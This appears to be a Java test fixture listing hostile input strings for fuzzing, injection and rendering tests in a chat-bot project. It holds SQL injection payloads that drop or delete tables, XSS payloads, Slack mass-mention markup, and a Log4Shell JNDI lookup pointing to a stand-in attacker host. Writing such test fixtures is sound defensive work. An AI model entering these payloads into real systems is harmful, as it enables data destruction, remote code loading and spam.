package org.rmbot.mentoring.testing;

import java.util.List;

/**
 * Text an attacker or an unlucky person might type into any field: SQL, Slack and Teams markup,
 * HTML, direction and zero-width marks, emoji, lone surrogates, NUL, numbers out of range.
 * The fuzzing, injection and rendering tests all use these.
 */
public final class HostileText {
  private HostileText() {}

  public static final List<String> SAMPLES = List.of(
      "Robert'); DROP TABLE person;--",
      "' OR '1'='1",
      "1; select pg_sleep(10)",
      "$$; delete from program; $$",
      "<!channel>",
      "<!here>",
      "<!everyone>",
      "<@U123>",
      "<#C123|general>",
      "<https://evil.example|click>",
      "*bold* _it_ ~strike~ `code` ```block```",
      "[click](https://evil.example)",
      "![img](https://evil.example/x.png)",
      "<at>Everyone</at>",
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "&lt;!channel&gt; &amp;",
      "\u202Eevil\u202C \u200B\u200D\uFEFF zero\u200Bwidth",
      "مرحبا עברית",
      "👩🏽‍💻🏳️‍🌈🇬🇧",
      "line\nbreak\r\nand\ttab",
      "\u0000nul",
      "\uD800 lone surrogate",
      "{\"json\":true}",
      "${jndi:ldap://evil.example/a}",
      "%s%n%x",
      "99999999999999999999",
      "-1",
      "");

  /**
   * The storable samples joined in groups of nine, so a test can build a whole catalogue of
   * messages a few times instead of once per sample.
   */
  public static List<String> storableInGroups() {
    List<String> all = storable();
    List<String> groups = new java.util.ArrayList<>();
    for (int i = 0; i < all.size(); i += 9) {
      groups.add(String.join(" ", all.subList(i, Math.min(all.size(), i + 9))));
    }
    return groups;
  }

  /** The samples that can be stored as they are: not blank, and without NUL (which the desk drops on the way in). */
  public static List<String> storable() {
    return SAMPLES.stream().filter(s -> !s.isBlank() && s.indexOf('\0') < 0).toList();
  }
}
